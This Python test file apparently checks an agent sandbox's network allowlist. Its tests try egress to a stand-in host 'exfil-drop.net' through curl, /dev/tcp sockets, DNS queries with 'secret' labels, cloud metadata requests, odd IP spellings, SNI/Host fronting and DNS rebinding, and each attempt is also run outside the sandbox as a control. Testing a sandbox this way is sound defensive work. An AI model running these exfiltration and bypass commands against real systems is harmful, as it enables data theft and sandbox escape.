"""What is not granted is refused at once, arrives nowhere and is asked of no name server; and each
such attempt works without the cell, which is the control."""

import os
import re
import time

from support import Case, read_lines

LAB = True

NAME = "allowed.cell-lab.net"
ADDRESS = "44.128.1.40"
EVIL = "exfil-drop.net"
CODE = "-sS -o /dev/null -w '%{http_code}' --max-time 5"
PYTHON = "/usr/bin/python3 -c "

# Granted names whose addresses lead back into a network of ours; asked for by proxy and direct.
INWARD = """loopback loopback6 zero zero6 metadata metadata6 linklocal6 private10 private172
private192 cgnat ula doc bench multicast broadcast reserved mapped mapped-metadata nat64
nat64-metadata nat64-local compat sixtofour teredo own resolver mixed alias-private""".split()
# Those that without a cell reach a server of the lab, on whatever address, over plain sockets.
REACHED_OUTSIDE = """loopback zero metadata private10 private172 private192 cgnat own mixed
alias-private""".split()

# (what, command in the cell, that works outside) - each prints something only if it got an answer.
ADDRESSES = {
    "TCP": f"curl {CODE} --noproxy '*' http://{ADDRESS}/ | grep 200",
    "TCP to another port": f"timeout 5 bash -c 'exec 3<>/dev/tcp/{ADDRESS}/8080 && echo hi >&3 && "
                           "head -n1 <&3'",
    "TCP over IPv6": f"curl {CODE} --noproxy '*' 'http://[2d00:1ab:1::40]/' | grep 200",
    "UDP": PYTHON + f"""'import socket; s = socket.socket(2, 2); s.settimeout(1.5)
s.sendto(b"ping", ("{ADDRESS}", 443)); print(s.recv(9))' 2>/dev/null""",
    "the name server": PYTHON + """'import os, socket; s = socket.socket(2, 2); s.settimeout(1.5)
s.sendto(bytes.fromhex("abcd0100000100000000000006736563726574") + b"\\x0aexfil-drop\\x03net\\0"
         + bytes.fromhex("00010001"), ("10.77.0.53", 53)); print(len(s.recv(512)))' 2>/dev/null""",
    "metadata": f"curl {CODE} --noproxy '*' http://169.254.169.254/ | grep 200",
}
QUERY = """
import socket, struct, sys
def ask(name, kind, over_tcp):
    labels = b"".join(bytes([len(l)]) + l.encode() for l in name.split("."))
    query = struct.pack(">6H", 7, 256, 1, 0, 0, 0) + labels + b"\\0" + struct.pack(">2H", kind, 1)
    s = socket.socket(2, 1 if over_tcp else 2)
    s.settimeout(3)
    s.connect(("127.0.0.1", 53))
    s.sendall((struct.pack(">H", len(query)) if over_tcp else b"") + query)
    answer = s.recv(600)[2 if over_tcp else 0:]
    print(name, kind, answer[3] & 15, ".".join(map(str, answer[-4:])))
for word in sys.argv[1:]:
    name, kind, way = word.split("/")
    ask(name, int(kind), way == "tcp")
"""


class Refused(Case):
    def setUp(self):
        super().setUp()
        self.begin = {log: len(read_lines(os.environ[log]))
                      for log in ("LAB_QUERIES", "LAB_REQUESTS")}

    def since(self, log, **fields):
        return [line for line in read_lines(os.environ[log])[self.begin[log]:]
                if all(line.get(name) == value for name, value in fields.items())]

    def queries(self, part):
        return [line["name"] for line in self.since("LAB_QUERIES")
                if part in (line["name"] or "").lower()]

    def test_a_name_that_is_not_granted(self):
        commands = (f"curl -s -w '%{{http_code}}\\n' http://{EVIL}/",
                    f"curl {CODE} -x http://127.0.0.1:3128 https://{EVIL}/; echo",
                    f"curl {CODE} --noproxy '*' https://{EVIL}/; echo",
                    f"curl {CODE} --socks5-hostname 127.0.0.1:3128 https://{EVIL}/; echo",
                    f"getent hosts secret.{EVIL}", f"curl {CODE} https://secret.{EVIL}/; echo")
        begin = time.monotonic()
        out = self.cell("; ".join(commands)).stdout
        self.assertLess(time.monotonic() - begin, 5)  # refused at once: nothing waited
        self.assertRegex(out, r"(?s)No rule .*warden allowlist add exfil-drop\.net\b.*403\n")
        self.assertNotIn("200", out)
        self.assertEqual(self.queries(EVIL), [])
        self.assertEqual(self.since("LAB_REQUESTS"), [])
        refused = self.events("net.refused", host=EVIL) + self.events("dns.refused", host=EVIL)
        self.assertLessEqual({"http", "connect", "dns", "socks"}, {e["way"] for e in refused})
        self.assertEqual(self.outside(f"curl {CODE} http://{EVIL}/").stdout, "200")
        self.assertNotEqual(self.queries(EVIL), [])

    def test_E03_addresses_without_a_name(self):
        for what, command in ADDRESSES.items():
            with self.subTest(what):
                self.assertEqual(self.cell(command, "--allow", NAME).stdout, "")
        self.assertEqual(self.since("LAB_REQUESTS") + self.since("LAB_QUERIES"), [])
        for what, command in ADDRESSES.items():
            with self.subTest(what, control=True):
                self.assertNotEqual(self.outside(command).stdout, "")

    def connect_each(self, hosts, *options):
        """What the proxy answers to CONNECT, as written here: no client interprets it."""
        connects = "; ".join(
            f"printf 'CONNECT {host.replace('%', '%%')}:443 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n' | "
            "timeout 3 bash -c 'exec 3<>/dev/tcp/127.0.0.1/3128; cat >&3; head -c 12 <&3'; echo"
            for host in hosts)
        return re.findall(r"^HTTP/1\.1 (\d+)", self.cell(connects, *options).stdout, re.M)

    def test_E03_E04_literals_and_odd_spellings(self):
        literals = (ADDRESS, "[2d00:1ab:1::40]", "127.0.0.1", "2130706433", "0x7f.1", "0177.1",
                    "[::ffff:127.0.0.1]", "[64:ff9b::a9fe:a9fe]", "[64:ff9b::169.254.169.254]",
                    "[fe80::1%eth0]", "[2002:7f00:1::]", "169.254.169.254", "198.18.0.1", "0",
                    "127.1", "::1")
        answers = self.connect_each(literals, "--allow", NAME)
        self.assertEqual(len([a for a in answers if a in ("400", "403")]), len(literals), answers)
        self.assertEqual(self.since("LAB_REQUESTS"), [])

    def test_E01_E07_hosts_that_are_no_names(self):
        hosts = ("pypi.org..", ".pypi.org", "pypi.org%00.evil.net", "pypi.org\\0.evil.net",
                 "pypi.org\\t", "a@pypi.org", "pypi.org#", "-pypi.org", "x" * 64 + ".pypi.org",
                 "pypi..org", "py\\xffpi.org", "", ".")
        answers = self.connect_each(hosts, "--allow", "pypi.org")
        self.assertEqual(len([a for a in answers if a in ("400", "403")]), len(hosts), answers)
        self.assertEqual(self.since("LAB_REQUESTS") + self.queries("pypi"), [])
        self.assertEqual(self.connect_each(["PYPI.org", "pypi.org."]), ["200", "200"])

    def test_E02_ports_that_are_not_granted(self):
        raw = "; ".join(f"curl {CODE} -p http://{NAME}:{port}/ -w '%{{http_connect}}'; echo; "
                        f"timeout 5 bash -c 'exec 3<>/dev/tcp/{NAME}/{port}; head -c3 <&3'"
                        for port in (22, 8080))
        out = self.cell(raw, "--allow", NAME).stdout
        self.assertEqual(out.split(), ["403", "403"])
        self.assertEqual(self.since("LAB_REQUESTS"), [])
        banner = self.outside(f"timeout 5 bash -c 'exec 3<>/dev/tcp/{NAME}/22; head -c3 <&3'")
        self.assertEqual(banner.stdout, "SSH")

    def test_E06_tls_for_another_name(self):
        client = ("openssl s_client -brief -connect {} -servername {} </dev/null 2>&1 | "
                  "grep -c 'Protocol version'")
        for target in (f"-proxy 127.0.0.1:3128 -connect {NAME}:443", f"-connect {NAME}:443"):
            command = client.replace("-connect {}", target)
            with self.subTest(target):
                self.assertEqual(self.cell(command.format(NAME), "--allow", NAME).stdout, "1\n")
                fronted = self.cell(command.format("other.cell-lab.net"), "--allow", NAME)
                self.assertEqual(fronted.stdout, "0\n")
                nameless = command.replace("-servername {}", "-noservername")
                self.assertEqual(self.cell(nameless, "--allow", NAME).stdout, "0\n")
        self.assertEqual({line["sni"] for line in self.since("LAB_REQUESTS", event="tls")}, {NAME})
        outside = client.format(f"{NAME}:443", "other.cell-lab.net")
        self.assertEqual(self.outside(outside).stdout, "1\n")

    def test_E06_http_for_another_host(self):
        fronted = f"curl -s -H 'Host: other.cell-lab.net' http://{NAME}/"
        for command in (fronted, fronted + " --noproxy '*'"):
            with self.subTest(command):
                out = self.cell(command, "--allow", NAME).stdout
                self.assertNotEqual(out, "other.cell-lab.net\n")
        hosts = {line["host"] for line in self.since("LAB_REQUESTS", event="request")}
        self.assertLessEqual(hosts, {NAME})
        self.assertEqual(self.outside(fronted).stdout, "other.cell-lab.net\n")

    def test_E05_granted_names_with_addresses_of_ours(self):
        options = [word for name in INWARD for word in ("--allow", f"{name}.cell-lab.net")]
        codes = "; ".join(f"echo {name} $(curl {CODE} http://{name}.cell-lab.net/) "
                          f"$(curl {CODE} --noproxy '*' http://{name}.cell-lab.net/)"
                          for name in INWARD)
        out = self.cell(codes, *options).stdout
        self.assertEqual(re.findall(r"^(\S+) 403 (?:000|403)$", out, re.M), INWARD, out)
        told = {event["host"] for event in self.events("net.refused", outcome="address")}
        self.assertEqual(told, {f"{name}.cell-lab.net" for name in INWARD})
        self.assertEqual(self.since("LAB_REQUESTS"), [])
        reached = self.outside("; ".join(
            f"echo {name} $(curl {CODE} http://{name}.cell-lab.net/)"
            for name in REACHED_OUTSIDE)).stdout
        self.assertEqual(re.findall(r"^(\S+) 200$", reached, re.M), REACHED_OUTSIDE)

    def test_E05_a_name_that_changes_its_address(self):
        name = "rebind.cell-lab.net"
        tries = f"for i in 1 2 3 4 5 6 7 8; do curl {CODE} http://{name}/; echo; done"
        codes = self.cell(tries, "--allow", name).stdout.split()
        self.assertLessEqual(set(codes), {"200", "403"})
        self.assertIn("403", codes)
        self.assertEqual(self.since("LAB_REQUESTS", side="host"), [])
        self.outside(tries)
        self.assertNotEqual(self.since("LAB_REQUESTS", side="host"), [])

    def test_E09_nothing_leaves_inside_a_query(self):
        words = [f"secret-{i}.{EVIL}/{kind}/{way}" for i, (kind, way) in enumerate(
            (kind, way) for kind in (1, 28, 16, 15, 5, 65, 255) for way in ("udp", "tcp"))]
        script = self.write("query.py", QUERY)
        out = self.cell(f"/usr/bin/python3 '{script}' {' '.join(words)}", "--allow", NAME).stdout
        answers = re.findall(r"^secret\S+ \d+ (\d+) ", out, re.M)
        self.assertEqual(len(answers), len(words), out)
        self.assertLessEqual(set(answers), {"3", "5"})  # NXDOMAIN or REFUSED, at once
        self.assertEqual(self.since("LAB_QUERIES"), [])
        self.outside(f"getent hosts secret.{EVIL}")
        self.assertNotEqual(self.queries(EVIL), [])

    def test_E09_dns_over_tcp_answers_granted_names_alone(self):
        script = self.write("query.py", QUERY)
        words = f"{NAME}/1/udp {NAME}/1/tcp other.cell-lab.net/1/tcp"
        out = self.cell(f"/usr/bin/python3 '{script}' {words}", "--allow", NAME).stdout
        self.assertEqual(len(re.findall(rf"^{NAME} 1 0 198\.1[89]\.", out, re.M)), 2, out)
        self.assertRegex(out, r"other\.cell-lab\.net 1 [35] ")

    def test_E13_families_and_kinds_of_sockets(self):
        tries = {"packet": (17, 3), "raw": (2, 3), "raw6": (10, 3), "vsock": (40, 1),
                 "netlink audit": (16, 3, 9), "bluetooth": (31, 3, 1), "alg": (38, 5)}
        code = "import socket\n" + "".join(
            f"try: socket.socket{args}; print('got', '{name}')\nexcept OSError: pass\n"
            for name, args in tries.items())
        script = self.write("sockets.py", code)
        self.assertEqual(self.cell(f"/usr/bin/python3 '{script}'", "--allow", NAME).stdout, "")
        # Loopback works for the agent's own servers, UDP too.
        own = PYTHON + """'import socket; a = socket.socket(2, 2); a.bind(("127.0.0.1", 0))
b = socket.socket(2, 2); b.sendto(b"x", a.getsockname()); print(a.recv(9))'"""
        self.assertEqual(self.in_cell(own), "b'x'\n")

    def test_offline_has_no_gate_and_no_way_at_all(self):
        script = (f"env | grep -i proxy; curl {CODE} http://{NAME}/; getent hosts {NAME}; "
                  "ls /sys/class/net 2>/dev/null; echo; exec sleep 60")
        session = self.session(script, "--offline")
        session.member("sleep")
        self.assertNotIn("warden-gate", session.members().values())
        session.process.terminate()
        _, out, _, _ = session.end()
        self.assertEqual(out.split(), ["000"])
